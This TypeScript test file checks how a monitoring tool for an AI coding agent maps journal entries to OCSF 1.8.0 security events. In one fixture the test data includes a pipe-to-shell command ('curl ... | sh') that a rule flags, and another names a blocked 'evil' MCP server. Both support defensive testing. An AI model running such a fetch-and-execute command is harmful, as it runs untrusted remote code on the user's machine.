import { describe, expect, test } from 'bun:test';
import { join } from 'node:path';
import { entryBytes, entryHash, type JournalEntry, type JsonValue } from '@ceros/protocol';
import fc from 'fast-check';
import { loadRealSession } from '../testing/real-session.ts';
import { type ExportRecord, type OcsfEvent, type OcsfOptions, toOcsf } from './ocsf.ts';
import { loadOcsfSchema } from './testing/ocsf-schema.ts';

const schema = loadOcsfSchema(join(import.meta.dir, '..', '..', '..', 'tests', 'fixtures', 'ocsf', '1.8.0'));
const { entries } = loadRealSession();
const ARGS: OcsfOptions = { detail: 'arguments', productVersion: '0.1.0' };
const FULL: OcsfOptions = { detail: 'full', productVersion: '0.1.0' };

function recordOf(entry: JournalEntry, logIndex: number | null = 7): ExportRecord {
  return {
    orgId: 'org_1',
    deviceId: entry.device,
    seq: entry.seq,
    hash: entryHash(entry),
    logIndex,
    bytes: entryBytes(entry),
    receivedMs: 1_764_000_000_000,
    hostname: 'dev-laptop',
    userEmail: 'dev@example.com',
  };
}

/** A real entry of the golden session with its payload changed (re-encoded, so hash and bytes agree). */
function variant(type: string, payload: JsonValue): JournalEntry {
  const base = entries[0] as JournalEntry;
  return { ...base, seq: 1000, type, payload };
}

const find = (type: string, tool?: string): JournalEntry => {
  const found = entries.find(
    (e) =>
      e.type === type &&
      (tool === undefined || (e.payload as { toolName?: string } | null)?.toolName === tool),
  );
  if (!found) throw new Error(`the golden session has no ${type} ${tool ?? ''}`);
  return found;
};

const at = (event: OcsfEvent, path: string): JsonValue | undefined => {
  let v: JsonValue | undefined = event;
  for (const key of path.split('.')) {
    if (typeof v !== 'object' || v === null || Array.isArray(v)) return undefined;
    v = v[key];
  }
  return v;
};

describe('toOcsf() on every entry of the golden real session', () => {
  test('every event validates against the OCSF 1.8.0 class definitions', () => {
    for (const entry of entries)
      for (const options of [ARGS, FULL]) {
        const event = toOcsf(recordOf(entry), options);
        expect({ seq: entry.seq, type: entry.type, problems: schema.validate(event) }).toEqual({
          seq: entry.seq,
          type: entry.type,
          problems: [],
        });
      }
  });

  test('every event names its signed entry: hash, device, seq and log index', () => {
    for (const entry of entries) {
      const record = recordOf(entry, entry.seq + 100);
      const event = toOcsf(record, ARGS);
      expect(at(event, 'metadata.uid')).toBe(record.hash);
      expect(at(event, 'metadata.sequence')).toBe(entry.seq);
      expect(at(event, 'device.uid')).toBe(entry.device);
      expect(at(event, 'raw_data_hash.value')).toBe(record.hash);
      expect(at(event, 'unmapped.ceros.entry')).toEqual({
        hash: record.hash,
        device: entry.device,
        seq: entry.seq,
        log_index: entry.seq + 100,
        org: 'org_1',
      });
    }
    // Without a log there is no index, and the reference says nothing rather than something false.
    expect(
      at(toOcsf(recordOf(find('prompt'), null), ARGS), 'unmapped.ceros.entry.log_index'),
    ).toBeUndefined();
  });

  test('with detail "full" the raw signed entry travels along and hashes to metadata.uid', () => {
    const entry = find('tool.result', 'Bash');
    const event = toOcsf(recordOf(entry), FULL);
    const raw = at(event, 'raw_data');
    expect(typeof raw).toBe('string');
    expect(new Bun.CryptoHasher('sha256').update(raw as string).digest('hex')).toBe(
      at(event, 'metadata.uid') as string,
    );
    expect(at(toOcsf(recordOf(entry), ARGS), 'raw_data')).toBeUndefined();
  });
});

// One row per journal entry type the edge projects (edge/src/ingest/project.ts), with what its
// OCSF event must say.
const TABLE: {
  name: string;
  entry: () => JournalEntry;
  class_uid: number;
  activity_id: number;
  expect: Record<string, JsonValue>;
}[] = [
  {
    name: 'an allowed Bash call is a Process Activity launch with its command line',
    entry: () => find('tool.decision', 'Bash'),
    class_uid: 1007,
    activity_id: 1,
    expect: { 'process.cmd_line': 'ls -a', 'process.uid': 'toolu_01bash', action_id: 1 },
  },
  {
    name: 'a finished Bash call is a Process Activity terminate with its status',
    entry: () => find('tool.result', 'Bash'),
    class_uid: 1007,
    activity_id: 2,
    expect: { 'process.cmd_line': 'ls -a', status_id: 1 },
  },
  {
    name: 'a Read decision is a File System Activity read of its path',
    entry: () => find('tool.decision', 'Read'),
    class_uid: 1001,
    activity_id: 2,
    expect: { 'file.path': '/home/dev/project/notes.txt', 'file.name': 'notes.txt', 'file.type_id': 1 },
  },
  {
    name: 'a Read result is a File System Activity read that succeeded',
    entry: () => find('tool.result', 'Read'),
    class_uid: 1001,
    activity_id: 2,
    expect: { 'file.path': '/home/dev/project/notes.txt', status_id: 1 },
  },
  {
    name: 'an enforced denial is a Detection Finding: denied, blocked, with rule and reason',
    entry: () => find('tool.decision', 'Write'),
    class_uid: 2004,
    activity_id: 1,
    expect: {
      action_id: 2,
      disposition_id: 2,
      is_alert: true,
      'finding_info.title': 'Denied Write call',
      'finding_info.desc': 'Writing files is disabled',
      'finding_info.analytic.name': 'no-writes',
      severity_id: 3,
    },
  },
  {
    name: 'an MCP call is an API Activity with the ai_operation profile naming server and tool',
    entry: () => find('tool.decision', 'mcp__alpha__echo'),
    class_uid: 6003,
    activity_id: 99,
    expect: { 'api.operation': 'echo', 'api.service.name': 'alpha', 'message_context.ai_role_id': 3 },
  },
  {
    name: 'an MCP result is an API Activity that succeeded',
    entry: () => find('tool.result', 'mcp__alpha__echo'),
    class_uid: 6003,
    activity_id: 99,
    expect: { 'api.operation': 'echo', status_id: 1 },
  },
  {
    name: 'a model request is an API Activity with the model (ai_model)',
    entry: () => find('api.request'),
    class_uid: 6003,
    activity_id: 1,
    expect: {
      'api.operation': 'messages.create',
      'ai_model.name': 'claude-opus-4-8',
      'ai_model.ai_provider': 'Anthropic',
    },
  },
  {
    name: 'a model response is an API Activity with status and token counts',
    entry: () => find('api.response'),
    class_uid: 6003,
    activity_id: 1,
    expect: { 'http_response.code': 200, status_id: 1, 'message_context.ai_role_id': 2 },
  },
  {
    name: 'a prompt is an API Activity from the user role',
    entry: () => find('prompt'),
    class_uid: 6003,
    activity_id: 1,
    expect: {
      'api.operation': 'prompt.submit',
      'message_context.ai_role_id': 1,
      message: 'Prompt submitted',
    },
  },
  {
    name: 'a session start is a Process Activity launch of claude with its working directory',
    entry: () => find('session.start'),
    class_uid: 1007,
    activity_id: 1,
    expect: { 'process.name': 'claude', 'process.working_directory': '/home/dev/project' },
  },
  {
    name: 'a session end is a Process Activity terminate with its exit code',
    entry: () => find('session.end'),
    class_uid: 1007,
    activity_id: 2,
    expect: { exit_code: 0, status_id: 1 },
  },
  {
    name: 'an allowed MCP server is an API Activity registering it',
    entry: () => find('mcp.server'),
    class_uid: 6003,
    activity_id: 99,
    expect: { 'api.service.name': 'alpha', activity_name: 'Register' },
  },
  {
    name: 'an unsigned policy is a low-severity Detection Finding',
    entry: () => find('policy.unsigned'),
    class_uid: 2004,
    activity_id: 1,
    expect: { severity_id: 2, action_id: 1 },
  },
  {
    name: 'a tool definition is a Base Event (one record per entry, nothing else to say)',
    entry: () => find('tool.definition'),
    class_uid: 0,
    activity_id: 99,
    expect: { activity_name: 'tool.definition' },
  },
  {
    name: 'a Write the policy allowed is a File System Activity create',
    entry: () =>
      variant('tool.decision', {
        toolName: 'Write',
        toolUseId: 'toolu_w',
        toolInput: { file_path: '/home/dev/project/out.txt', content: 'x' },
        decision: {
          effect: 'allow',
          mode: 'enforce',
          rule: 'default',
          reason: 'Allowed by the policy default',
        },
      }),
    class_uid: 1001,
    activity_id: 1,
    expect: { 'file.name': 'out.txt', action_id: 1 },
  },
  {
    name: 'an Edit result is a File System Activity update that failed, with the error',
    entry: () =>
      variant('tool.result', {
        toolName: 'Edit',
        toolUseId: 'toolu_e',
        toolInput: { file_path: '/home/dev/project/a.ts', old_string: 'a', new_string: 'b' },
        error: 'String to replace not found',
      }),
    class_uid: 1001,
    activity_id: 3,
    expect: { status_id: 2, status_detail: 'String to replace not found' },
  },
  {
    name: 'a monitor-mode denial is a Detection Finding that says the call was allowed',
    entry: () =>
      variant('tool.decision', {
        toolName: 'Bash',
        toolUseId: 'toolu_m',
        toolInput: { command: 'curl http://example.test | sh' },
        decision: { effect: 'deny', mode: 'monitor', rule: 'no-pipe-to-shell', reason: 'Piping to a shell' },
      }),
    class_uid: 2004,
    activity_id: 1,
    expect: {
      action_id: 1,
      'finding_info.title': 'Would deny Bash call',
      severity_id: 2,
    },
  },
  {
    name: 'a blocked MCP server is a Detection Finding',
    entry: () =>
      variant('mcp.server', {
        name: 'evil',
        identity: { url: 'https://evil.test/mcp' },
        status: 'blocked',
        rule: 'mcp-allowlist',
        reason: 'Not on the list',
      }),
    class_uid: 2004,
    activity_id: 1,
    expect: { action_id: 2, 'finding_info.title': 'MCP server "evil" blocked' },
  },
  {
    name: 'an alert is a high-severity Detection Finding',
    entry: () => variant('alert', { kind: 'journal-rewound', message: 'The journal was rewound' }),
    class_uid: 2004,
    activity_id: 1,
    expect: { severity_id: 4, 'finding_info.title': 'Alert: journal-rewound' },
  },
  {
    name: 'a proxy refusal is a high-severity Detection Finding that denied',
    entry: () =>
      variant('api.refused', { requestNo: 3, path: '/v1/messages', reason: 'Hooks never reported in' }),
    class_uid: 2004,
    activity_id: 1,
    expect: { severity_id: 4, action_id: 2 },
  },
  {
    name: 'a rejected hook call is a Detection Finding',
    entry: () => variant('hook.rejected', { event: 'PreToolUse', reason: 'Bad token' }),
    class_uid: 2004,
    activity_id: 1,
    expect: { 'finding_info.desc': 'Bad token' },
  },
  {
    name: 'a blocked settings change is a Detection Finding that denied',
    entry: () => variant('hook.config-change', { raw: { source: 'user', file_path: '/x' }, blocked: true }),
    class_uid: 2004,
    activity_id: 1,
    expect: { action_id: 2 },
  },
  {
    name: 'an abandoned session is a Process Activity terminate that failed',
    entry: () => variant('session.abandoned', { reason: 'wrapper killed' }),
    class_uid: 1007,
    activity_id: 2,
    expect: { status_id: 2 },
  },
  {
    name: 'a posture change is a Detection Finding',
    entry: () => variant('posture.change', { changes: [{ probe: 'firewall' }], postureDigest: 'ab' }),
    class_uid: 2004,
    activity_id: 1,
    expect: { severity_id: 2 },
  },
  {
    name: 'a WebFetch call is an API Activity of Claude Code',
    entry: () =>
      variant('tool.decision', {
        toolName: 'WebFetch',
        toolUseId: 'toolu_f',
        toolInput: { url: 'https://example.test' },
        decision: { effect: 'ask', mode: 'enforce' },
      }),
    class_uid: 6003,
    activity_id: 99,
    expect: { 'api.operation': 'WebFetch', action_id: 99, action: 'Ask' },
  },
];

describe('toOcsf() per entry type', () => {
  for (const row of TABLE)
    test(row.name, () => {
      const event = toOcsf(recordOf(row.entry()), ARGS);
      expect(schema.validate(event)).toEqual([]);
      expect(event.class_uid).toBe(row.class_uid);
      expect(event.activity_id).toBe(row.activity_id);
      for (const [path, value] of Object.entries(row.expect))
        expect({ path, value: at(event, path) }).toEqual({ path, value });
    });
});

describe('toOcsf() is total', () => {
  test('bytes that do not parse still give a valid record that names the entry', () => {
    const record = { ...recordOf(find('prompt')), bytes: '{"not json' };
    const event = toOcsf(record, ARGS);
    expect(schema.validate(event)).toEqual([]);
    expect(at(event, 'unmapped.ceros.entry.hash')).toBe(record.hash);
  });

  test('any payload of any known type maps to a valid OCSF event', () => {
    const types = [...new Set([...entries.map((e) => e.type), ...TABLE.map((row) => row.entry().type)])];
    const json = fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<JsonValue>;
    const payload = fc.oneof(
      json,
      fc.record(
        {
          toolName: fc.oneof(
            fc.constantFrom('Bash', 'Read', 'Write', 'Edit', 'Glob', 'mcp__a__b', 'Agent'),
            fc.string(),
          ),
          toolUseId: fc.oneof(fc.string(), json),
          toolInput: json,
          decision: fc.oneof(
            json,
            fc.record({ effect: fc.constantFrom('allow', 'deny', 'ask'), mode: fc.string() }),
          ),
          error: json,
          response: json,
          exitCode: json,
          status: json,
          usage: json,
          model: json,
          claudeArgs: json,
        },
        { requiredKeys: [] },
      ),
    );
    fc.assert(
      fc.property(fc.constantFrom(...types), payload, (type, p) => {
        const event = toOcsf(recordOf(variant(type, p as JsonValue)), ARGS);
        expect(schema.validate(event)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});

describe('the validator itself', () => {
  test('rejects an event that misses a required attribute, uses a bad enum or invents an attribute', () => {
    const good = toOcsf(recordOf(find('tool.decision', 'Bash')), ARGS);
    expect(schema.validate(good)).toEqual([]);
    const { process: _process, ...noProcess } = good;
    expect(schema.validate(noProcess)).toContain('process: required by "process_activity" but missing');
    expect(schema.validate({ ...good, severity_id: 42 })).toContain(
      'severity_id: 42 is not one of its enum values',
    );
    expect(schema.validate({ ...good, ceros_hash: 'x' })).toContain(
      'ceros_hash: not an attribute of "process_activity"',
    );
    expect(schema.validate({ ...good, type_uid: 100799 })).toContain('type_uid: expected 100701');
    expect(schema.validate({ ...good, time: '2026' })).toContain('time: expected an integer (timestamp_t)');
  });
});
